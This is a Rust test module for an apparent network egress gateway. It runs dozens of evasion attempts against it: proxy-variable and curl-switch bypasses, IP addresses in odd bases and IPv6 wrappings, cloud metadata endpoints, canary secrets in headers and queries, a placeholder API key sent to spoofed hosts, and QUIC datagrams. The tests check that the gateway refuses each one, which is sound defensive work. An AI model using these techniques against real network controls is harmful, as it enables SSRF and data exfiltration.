//! Other ports, other addresses, other spellings of addresses, datagrams.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use serde_json::{Value, json};

use super::Expect::{Kernel, Logged, Told, Works};
use super::{Round, Row, Variant, get, plain, post, row, sh, tls, tls_with, variant};
use crate::attack::{CANARY_IS_KNOWN, Outside, has_v6};
use crate::world::{CANARY, Person, World};

/// The port on which the gateway listens inside.
const GATEWAY_PORT: u16 = 61_053;
/// The kernel's words for a datagram that goes nowhere.
const NO_DATAGRAMS: &[&str] = &["ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EPERM", "EACCES"];

/// What rows are made for.
struct At {
    lan: String,
    port: u16,
    v6: Option<String>,
    octets: [u8; 4],
    canary: u16,
}

pub fn run(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    let outside = Outside::new(&world);
    let (lan, port) = super::split(outside.v4());
    let v6 = has_v6().then(|| outside.v6().ip().to_string());
    let at = At { lan, port, v6, octets: outside.octets(), canary: world.canary.tcp_addr.port() };
    let rows = vec![
        unset_proxies(&at),
        plain_http(&at),
        other_ports(&at),
        gateway_port(&at),
        literals(&at),
        odd_bases(&at),
        wrapped(&at),
        credential_elsewhere(&at),
        quic(&at),
        metadata(),
    ];
    Round::new(&world, &outside, "net", person).judge(&rows);
}

/// The words of an entry about this host.
fn host(ip: impl ToString) -> String {
    format!("\"host\":\"{}\"", ip.to_string())
}

fn port_of(port: u16) -> String {
    format!("\"port\":{port}")
}

fn unset_proxies(at: &At) -> Row {
    let (lan, port) = (&at.lan, at.port);
    let curl = |switches: &str| sh(format!("curl -s -S -i -m 6 {switches} 2>&1 || true"));
    let refused = || Told("address_not_allowed");
    row(
        "B1 unset proxy variables and the switches of clients lead around nothing",
        vec![
            variant(
                "all proxy variables unset",
                sh(format!(
                    "env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy curl -s -i -m 6 http://{lan}:{port}/{{mark}}"
                )),
                refused(),
            ),
            variant("curl --noproxy '*'", curl(&format!("--noproxy '*' http://{lan}:{port}/{{mark}}")), refused()),
            variant(
                "NO_PROXY=*",
                sh(format!("NO_PROXY='*' no_proxy='*' curl -s -i -m 6 http://{lan}:{port}/{{mark}}")),
                refused(),
            ),
            variant(
                "a proxy of the attacker's",
                curl(&format!("-x http://{lan}:{port} http://notes.example/{{mark}}")),
                refused(),
            ),
            variant(
                "a SOCKS proxy of the attacker's",
                curl(&format!("-x socks5h://{lan}:{port} http://notes.example/{{mark}}")),
                Logged("address_not_allowed", port_of(port)),
            ),
            variant(
                "curl --connect-to",
                curl(&format!("-k --connect-to ::{lan}:{port} https://notes.example/{{mark}}")),
                refused(),
            ),
            variant(
                "curl --resolve",
                curl(&format!("-k --resolve notes.example:443:{lan} https://notes.example/{{mark}}")),
                refused(),
            ),
            variant(
                "bound to the loopback device",
                curl(&format!("--interface lo http://{lan}:{port}/{{mark}}")),
                refused(),
            ),
            variant(
                "python without urllib's proxies",
                sh(format!(
                    "/usr/bin/python3 -c \"import urllib.request as u\ntry: print(u.build_opener(u.ProxyHandler({{}})).open('http://{lan}:{port}/{{mark}}').read())\nexcept u.HTTPError as e: print(e.headers, e.read())\""
                )),
                refused(),
            ),
            variant(
                "an allowed host is still served",
                tls("notes.example", "notes.example", get("/sink/{mark}", &["notes.example"])),
                Works,
            ),
        ],
    )
}

fn plain_http(at: &At) -> Row {
    row(
        "B2 plain HTTP is judged as HTTPS is",
        vec![
            variant(
                "another address",
                plain(&at.lan, at.port, get("/{mark}", &["plain.example"])),
                Told("address_not_allowed"),
            ),
            variant(
                "another host by its field",
                plain("plain.example", 80, get("/{mark}", &["collector.example"])),
                Told("name_mismatch"),
            ),
            variant(
                "another allowed host by its field",
                plain("plain.example", 80, get("/{mark}", &["notes.example"])),
                Told("name_mismatch"),
            ),
            variant(
                "a secret in the body",
                plain("notes.example", 80, post("notes.example", "/sink/{mark}", json!(CANARY))),
                Told("secret_known"),
            ),
            variant(
                "a secret in the query",
                plain("plain.example", 80, get(&format!("/sink/{{mark}}?q={CANARY}"), &["plain.example"])),
                Told("secret_known"),
            ),
            variant(
                "a secret in a field",
                plain(
                    "notes.example",
                    80,
                    json!([format!(
                        "GET /sink/{{mark}} HTTP/1.1\r\nHost: notes.example\r\nX-Note: {CANARY}\r\nConnection: close\r\n\r\n"
                    )]),
                ),
                Told("secret_known"),
            ),
            variant(
                "HTTP/0.9",
                plain("plain.example", 80, json!(["GET /{mark}\r\n"])),
                Logged("protocol_refused", "plain.example".into()),
            ),
            variant(
                "a name that no route has",
                json!({"do": "dns", "name": "{mark}.collector.example"}),
                super::Expect::NoName("name_not_allowed", "mark-b2-07.collector.example".into()),
            ),
            variant(
                "an allowed plain host is served",
                plain("plain.example", 80, get("/sink/{mark}", &["plain.example"])),
                Works,
            ),
        ],
    )
}

fn other_ports(at: &At) -> Row {
    let mut variants = Vec::new();
    for port in [1, 22, 25, 853, 5432, 8080, 8443, 8888, 65_535] {
        let named = format!("notes.example:{port}");
        variants.push(variant(
            format!("an allowed host on port {port}"),
            plain("notes.example", port, get("/{mark}", &[&named])),
            Told("port_not_allowed"),
        ));
        variants.push(variant(
            format!("an address on port {port}"),
            plain(&at.lan, port, get("/{mark}", &[&named])),
            Told("address_not_allowed"),
        ));
    }
    variants.push(variant(
        "a database's first words",
        plain("notes.example", 5433, json!([{"hex": "0000000804d2162f"}])),
        Logged("port_not_allowed", port_of(5433)),
    ));
    variants.push(variant(
        "an SSH client's banner",
        plain("git.example", 2222, json!(["SSH-2.0-x{mark}\r\n"])),
        Logged("port_not_allowed", port_of(2222)),
    ));
    variants.push(variant(
        "a connection without a byte",
        json!({"do": "tcp", "to": at.lan, "port": at.port, "quiet": 100}),
        Logged("address_not_allowed", port_of(at.port)),
    ));
    row("B3 every other port is captured and refused", variants)
}

fn gateway_port(at: &At) -> Row {
    let mut to =
        vec![at.lan.clone(), "127.0.0.1".into(), "127.9.9.9".into(), "169.254.1.1".into(), "198.19.0.1".into()];
    to.extend(at.v6.iter().cloned());
    to.extend(at.v6.as_ref().map(|_| "::1".to_owned()));
    let mut variants: Vec<Variant> = Vec::new();
    for ip in &to {
        // Which addresses a machine has differs; the documents are to be the same everywhere.
        let shown = if *ip == at.lan {
            "the host's address"
        } else if Some(ip) == at.v6.as_ref() {
            "the host's address in IPv6"
        } else {
            ip
        };
        let shown = format!("{shown} on the gateway's own port");
        variants.push(variant(
            shown.clone(),
            plain(ip, GATEWAY_PORT, get("/{mark}", &["notes.example"])),
            Told("address_not_allowed"),
        ));
        let name = tls_with(ip, json!({"sni": "notes.example"}), get("/{mark}", &["notes.example"]));
        variants.push(variant(format!("{shown} by TLS"), on_port(name, GATEWAY_PORT), Told("address_not_allowed")));
    }
    let name = tls("notes.example", "notes.example", get("/{mark}", &["notes.example"]));
    variants.push(variant(
        "an allowed name on the gateway's own port",
        on_port(name, GATEWAY_PORT),
        Told("port_not_allowed"),
    ));
    row("B4 the gateway's own port leads nowhere on any address", variants)
}

fn on_port(mut attack: Value, port: u16) -> Value {
    attack["port"] = port.into();
    attack
}

fn literals(at: &At) -> Row {
    let mut there = vec![
        ("the host's address", at.lan.clone()),
        ("an address of documentation", "203.0.113.1".into()),
        ("a free address of the name pool", "198.19.255.1".into()),
    ];
    if let Some(v6) = &at.v6 {
        there.extend([
            ("the host's address in IPv6", v6.clone()),
            ("a public address in IPv6", "2606:4700::1111".into()),
        ]);
    }
    let mut variants = Vec::new();
    for (what, ip) in there {
        let bracketed = if ip.contains(':') { format!("[{ip}]") } else { ip.clone() };
        let mut one = |how: &str, attack: Value| {
            variants.push(variant(format!("{what}: {how}"), attack, Told("address_not_allowed")))
        };
        one("plain", plain(&ip, 80, get("/{mark}", &[&bracketed])));
        one("plain, in an allowed name", plain(&ip, 80, get("/{mark}", &["notes.example"])));
        one("TLS without a server name", tls_with(&ip, json!({"sni": null}), get("/{mark}", &[&bracketed])));
        one(
            "TLS without a server name, in an allowed name",
            tls_with(&ip, json!({"sni": null}), get("/{mark}", &["notes.example"])),
        );
        one("TLS in an allowed name", tls(&ip, "notes.example", get("/{mark}", &["notes.example"])));
    }
    variants.push(variant(
        "a handshake that is none",
        plain("203.0.113.20", 443, json!([{"hex": "160301000461626364"}])),
        Logged("address_not_allowed", host("203.0.113.20")),
    ));
    variants.push(variant(
        "bytes in the first segment (TCP Fast Open)",
        json!({"do": "py", "run": format!(
            "s = socket.socket(); s.sendto(b'GET /{{mark}} HTTP/1.1\\r\\nHost: notes.example\\r\\nConnection: close\\r\\n\\r\\n', 0x20000000, ('{}', {}))\nprint(s.recv(65536).decode())",
            at.lan, at.port
        )}),
        Told("address_not_allowed"),
    ));
    row("B5 an address without a name is refused, whatever names are said on it", variants)
}

fn odd_bases(at: &At) -> Row {
    let [a, b, c, d] = at.octets;
    let (port, whole) = (at.port, u32::from_be_bytes(at.octets));
    let spellings = [
        ("decimal", format!("{whole}")),
        ("hexadecimal", format!("0x{whole:x}")),
        ("octal", format!("0{whole:o}")),
        ("octal octets", format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}")),
        ("mixed bases", format!("0x{a:x}.{b}.0{c:o}.{d}")),
        ("two parts", format!("{a}.{}", u32::from_be_bytes([0, b, c, d]))),
        ("three parts", format!("{a}.{b}.{}", u16::from_be_bytes([c, d]))),
        ("upper case", format!("0X{whole:X}")),
    ];
    // The program's own resolver reads the spelling; the gateway sees the address that it is.
    let mut variants: Vec<Variant> = spellings
        .iter()
        .map(|(what, text)| {
            let script = format!(
                "/usr/bin/python3 -c \"import socket\ns = socket.create_connection(('{text}', {port}), 5)\ns.sendall(b'GET /{{mark}} HTTP/1.1\\r\\nHost: notes.example\\r\\nConnection: close\\r\\n\\r\\n')\nprint(s.recv(65536).decode())\""
            );
            variant(format!("dialled: {what}"), sh(script), Told("address_not_allowed"))
        })
        .collect();
    for text in ["2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0x7f000001", "127.0.0.1:443"] {
        variants.push(variant(
            format!("said: {text}"),
            tls("notes.example", "notes.example", get("/{mark}", &[text])),
            Told("name_mismatch"),
        ));
    }
    for text in ["127.0.0.999", "1.2.3.4.5", "0x100000000"] {
        variants.push(variant(
            format!("said: {text}, which is no address"),
            tls("notes.example", "notes.example", get("/{mark}", &[text])),
            Told("host_invalid"),
        ));
    }
    for text in ["2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0"] {
        let script = format!(
            "/usr/bin/python3 -c \"import socket,errno\ntry: socket.create_connection(('{text}', {}), 3); print('done')\nexcept OSError as e: print(errno.errorcode[e.errno])\"",
            at.canary
        );
        variants.push(variant(
            format!("dialled: {text}, which is the bottle's own loopback"),
            sh(script),
            Kernel(&["ECONNREFUSED"]),
        ));
    }
    row("B6 an address in odd bases is the address that it is", variants)
}

fn wrapped(at: &At) -> Row {
    let v4 = Ipv4Addr::from(at.octets);
    let [a, b, c, d] = at.octets;
    let (high, low) = (u16::from_be_bytes([a, b]), u16::from_be_bytes([c, d]));
    let mut variants = Vec::new();
    if at.v6.is_some() {
        for (what, ip) in [
            ("mapped", v4.to_ipv6_mapped()),
            ("NAT64", Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, high, low)),
            ("NAT64 of a network's own", Ipv6Addr::new(0x64, 0xff9b, 1, 0, 0, 0, high, low)),
            ("6to4", Ipv6Addr::new(0x2002, high, low, 0, 0, 0, 0, 1)),
            ("Teredo", Ipv6Addr::new(0x2001, 0, 0, 0, 0, 0, high, low)),
            ("IPv4-compatible", Ipv6Addr::new(0, 0, 0, 0, 0, 0, high, low)),
            ("mapped metadata", Ipv4Addr::new(169, 254, 169, 254).to_ipv6_mapped()),
        ] {
            variants.push(variant(
                format!("dialled: {what}"),
                plain(&ip.to_string(), at.port, get("/{mark}", &["notes.example"])),
                Told("address_not_allowed"),
            ));
        }
        let own = |to: &str| plain(to, at.canary, get("/{mark}", &["localhost"]));
        variants.push(variant("dialled: ::1%lo", own("::1%lo"), Kernel(&["ECONNREFUSED"])));
        variants.push(variant("dialled: mapped loopback", own("::ffff:127.0.0.1"), Kernel(&["ECONNREFUSED"])));
        variants.push(variant("dialled: ::", own("::"), Kernel(&["ECONNREFUSED"])));
    }
    for text in [
        "[::ffff:127.0.0.1]",
        "[::FFFF:7f00:1]:443",
        "[::1%lo]",
        "[::1%25lo]:443",
        "[64:ff9b::7f00:1]",
        "::1",
        "[::1%]",
        "[2002:7f00:1::]",
    ] {
        variants.push(variant(
            format!("said: {text}"),
            tls("notes.example", "notes.example", get("/{mark}", &[text])),
            Told("name_mismatch"),
        ));
    }
    for text in ["[::1", "[::1]x", "[]", "[::1]:x", "[1.2.3.4]"] {
        variants.push(variant(
            format!("said: {text}"),
            tls("notes.example", "notes.example", get("/{mark}", &[text])),
            Told("host_invalid"),
        ));
    }
    row("B7 an address wrapped in IPv6 is judged as what it is", variants)
}

fn credential_elsewhere(at: &At) -> Row {
    let model = "api.anthropic.com";
    let with = |target: &str, name: &str| {
        json!([format!(
            "GET {target} HTTP/1.1\r\nHost: {name}\r\nAuthorization: Bearer carboy-placeholder-anthropic-api-key\r\nConnection: close\r\n\r\n"
        )])
    };
    row(
        "B16 no spoofed name brings the real credential to another address",
        vec![
            variant(
                "the attacker's address by TLS",
                tls(&at.lan, model, with("/{mark}", model)),
                Told("address_not_allowed"),
            ),
            variant(
                "the attacker's address in plain text",
                plain(&at.lan, at.port, with("/{mark}", model)),
                Told("address_not_allowed"),
            ),
            variant(
                "another allowed host by server name and Host",
                tls("notes.example", model, with("/{mark}", model)),
                Told("name_mismatch"),
            ),
            variant(
                "another allowed host by Host",
                tls("notes.example", "notes.example", with("/{mark}", model)),
                Told("name_mismatch"),
            ),
            variant(
                "another allowed host by the target",
                tls("notes.example", "notes.example", with("https://api.anthropic.com/{mark}", "notes.example")),
                Told("name_mismatch"),
            ),
            variant("a plain host", plain("plain.example", 80, with("/{mark}", model)), Told("name_mismatch")),
            variant(
                "an address of the name pool that has no name",
                tls("198.19.254.254", model, with("/{mark}", model)),
                Told("address_not_allowed"),
            ),
            variant("the host itself over plain text", plain(model, 80, with("/v1/models?{mark}", model)), Works),
            variant(
                "another host gets no key",
                tls("notes.example", "notes.example", with("/sink/{mark}", "notes.example")),
                Works,
            ),
        ],
    )
}

fn quic(at: &At) -> Row {
    // A long header of version 1 with a connection id, padded to the least size of an Initial (RFC 9000, 14.1).
    let initial = json!([[{"hex": "c000000001081122334455667788"}, {"times": [{"hex": "00"}, 1186]}]]);
    let udp = |to: &str, port: u16, send: &Value| json!({"do": "udp", "to": to, "port": port, "send": send});
    let mut variants = vec![
        variant("an Initial to an allowed host", udp("notes.example", 443, &initial), Kernel(NO_DATAGRAMS)),
        variant("an Initial to an address", udp(&at.lan, 443, &initial), Kernel(NO_DATAGRAMS)),
        variant("an Initial to an allowed host on port 80", udp("notes.example", 80, &initial), Kernel(NO_DATAGRAMS)),
        variant("a datagram to the canary", udp(&at.lan, at.port, &json!([CANARY])), Kernel(NO_DATAGRAMS)),
        variant(
            "version negotiation",
            udp("notes.example", 443, &json!([{"hex": "c0babababa081122334455667788"}])),
            Kernel(NO_DATAGRAMS),
        ),
        variant(
            "WireGuard's first message",
            udp(&at.lan, 51_820, &json!([{"times": [{"hex": "01"}, 148]}])),
            Kernel(NO_DATAGRAMS),
        ),
        variant(
            "TCP is there at once",
            tls("notes.example", "notes.example", get("/sink/{mark}", &["notes.example"])),
            Works,
        ),
    ];
    if at.v6.is_some() {
        variants.push(variant(
            "an Initial to an allowed host in IPv6",
            udp("%notes.example", 443, &initial),
            Kernel(NO_DATAGRAMS),
        ));
    }
    row("B27 a datagram is refused at once, so that clients of QUIC go on over TCP", variants)
}

fn metadata() -> Row {
    let mut services: Vec<IpAddr> =
        ["169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200", "192.0.0.192"]
            .iter()
            .map(|text| text.parse().unwrap())
            .collect();
    if has_v6() {
        services.extend(["fd00:ec2::254", "fd20:ce::254"].iter().map(|text| text.parse::<IpAddr>().unwrap()));
    }
    let mut variants = Vec::new();
    for ip in services {
        let (to, path) = (ip.to_string(), "/latest/meta-data/{mark}");
        variants.push(variant(
            format!("{to} in plain text"),
            plain(&to, 80, get(path, &["notes.example"])),
            Told("address_not_allowed"),
        ));
        variants.push(variant(
            format!("{to} by TLS"),
            tls(&to, "notes.example", get(path, &["notes.example"])),
            Told("address_not_allowed"),
        ));
    }
    for name in ["metadata.google.internal", "metadata", "instance-data.ec2.internal", "169.254.169.254.notes.example"]
    {
        variants.push(variant(name, super::dns(name, 1), super::Expect::NoName("name_not_allowed", name.into())));
    }
    row("B32 metadata services are refused by address and by name", variants)
}
